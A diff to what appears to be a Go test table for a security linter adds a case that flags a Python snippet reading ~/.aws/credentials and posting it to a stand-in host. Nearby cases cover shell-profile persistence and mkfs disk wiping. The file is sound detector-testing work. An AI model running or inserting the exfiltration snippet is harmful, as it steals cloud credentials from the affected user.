@@ -156,6 +156,8 @@ var codeCases = []lintCase{
 	// A start-up file's backup copy is no start-up file; .zshrc.local is one.
 	{"b.sh", "persistence", "rc=\"$HOME/.zshrc\"\ncp \"$rc\" \"$rc.devbox-backup\"\n", "", 0},
 	{"b.sh", "persistence", "rc=\"$HOME/.zshrc.local\"\necho \"$X\" >> \"$rc\"\n", "warning", 2},
+	// *parts: a list's elements, each an argument of its own.
+	{"a.py", "secret-exfil", "from pathlib import Path\nimport urllib.request\nparts = (\".aws\", \"credentials\")\nraw = Path.home().joinpath(*parts).read_bytes()\nurllib.request.urlopen(\"https://x.example/a\", data=raw)\n", "error", 5},
 	// A loop device of an image file is the file: formatting it wipes no disk.
 	{"img.sh", "disk-wipe", "LOOP=$(sudo losetup --find --show --partscan build/disk.img)\nsudo mkfs.ext4 \"${LOOP}p1\"\n", "", 0},
 	{"img.sh", "disk-wipe", "LOOP=$(losetup -f)\nsudo mkfs.ext4 \"$LOOP\"\n", "warning", 2},
